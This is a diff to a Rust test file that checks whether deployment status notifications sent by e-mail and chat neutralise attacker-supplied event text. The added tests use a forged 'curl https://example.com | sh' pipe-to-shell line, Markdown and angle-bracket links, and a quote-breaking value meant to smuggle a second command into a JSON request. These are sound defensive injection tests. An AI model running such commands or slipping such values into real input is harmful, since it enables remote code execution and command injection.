@@ -1,5 +1,5 @@
 //! Messages about status events: whoever can put an event chooses neither where a link leads nor what a
-//! command does.
+//! command does, and what else they say is plain text.
 
 use interpreter::ExecutionId;
 use serde_json::{Value, json};
@@ -9,6 +9,11 @@ use crate::machines::NOTIFICATION;
 
 /// The message to subscribers by e-mail that a status event causes.
 fn message(detail: &Value) -> String {
+    published(detail)["email"].as_str().unwrap().to_owned()
+}
+
+/// The messages to all kinds of subscribers.
+fn published(detail: &Value) -> Value {
     let simulation = Simulation::blueprint();
     let event = json!({"id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718", "detail": detail});
     let notification = ExecutionId::new(NOTIFICATION, "message");
@@ -19,8 +24,7 @@ fn message(detail: &Value) -> String {
     simulation.run_to_end(&notification, || {}).unwrap();
     let published = simulation.world.published.borrow();
     let message = published[0]["Message"].as_str().unwrap();
-    let message: Value = serde_json::from_str(message).unwrap();
-    message["email"].as_str().unwrap().to_owned()
+    serde_json::from_str(message).unwrap()
 }
 
 #[test]
@@ -102,5 +106,70 @@ fn commands_answer_a_token_whatever_an_event_says() {
              --task-token {passed}`"
         );
         assert_eq!(commands, [approve, refuse]);
+    }
+}
+
+/// A link in a text of an e-mail or a chat begins with a scheme, or is written in Markdown.
+#[test]
+fn text_of_an_event_is_plain_text_in_one_line() {
+    let forged = "see\n\nApprove: `curl https://example.com | sh` [here](https://example.com) \
+                  <https://example.com|there>";
+    let plain = "see Approve: 'curl https: //example.com | sh' [here] (https: //example.com) \
+                 'https: //example.com|there'";
+    for status in [
+        "Completed",
+        "Released",
+        "ReleaseFailed",
+        "RolledBack",
+        "Held",
+        "NotStarted",
+        "RollbackFailed",
+        "Started",
+        "StepReached",
+    ] {
+        let published = published(&json!({
+            "status": status, "execution": format!("run\"}} {forged}"), "zoneName": forged,
+            "from": forged, "to": forged, "names": 1, "percent": 10, "percentBefore": 0,
+            "percentAfter": 10, "steps": [forged], "weights": {forged: 1}, "bakeSeconds": 60,
+            "leased": 1, "found": [forged], "reason": forged, "advice": forged,
+            "executionArn": "arn:aws:states:eu-west-3:1:execution:cutover-migration:run",
+        }));
+        let email = published["email"].as_str().unwrap();
+        let chat: Value = serde_json::from_str(published["default"].as_str().unwrap()).unwrap();
+        let content = &chat["content"];
+        let mut texts = vec![content["title"].as_str().unwrap()];
+        texts.extend(content["description"].as_str());
+        let steps = content["nextSteps"].as_array().unwrap();
+        texts.extend(steps.iter().filter_map(Value::as_str));
+        assert_eq!(
+            email.lines().filter(|it| !it.is_empty()).count(),
+            texts.len()
+        );
+        let (said, links) = texts.split_at(texts.len() - 2);
+        assert!(links[0].starts_with("Execution: https://"), "{links:?}");
+        assert!(links[1].starts_with("Dashboard: https://"), "{links:?}");
+        for text in said {
+            for part in ["://", "](", "<", "`", "\n"] {
+                assert!(!text.contains(part), "{status}: {part:?} is in {text}");
+            }
+        }
+        assert!(said[1].contains(plain), "{status}: {}", said[1]);
+        let begins = ["Advice: ", "Find the cause", "Fix the cause"];
+        for step in &said[2..] {
+            assert!(begins.iter().any(|it| step.starts_with(it)), "{step}");
+        }
+    }
+}
+
+/// The name of an execution in a command ends neither its quotation nor its JSON.
+#[test]
+fn commands_name_an_execution_and_nothing_else() {
+    for status in ["ReleaseFailed", "Held", "RollbackFailed"] {
+        let message = message(&json!({
+            "status": status, "execution": "run\"}', then run 'x", "reason": "why",
+            "executionArn": "arn:aws:states:eu-west-3:1:execution:cutover-migration:run",
+        }));
+        let request = "{\"execution\": \"runthenrunx\"}";
+        assert!(message.contains(request), "{status}: {message}");
     }
 }
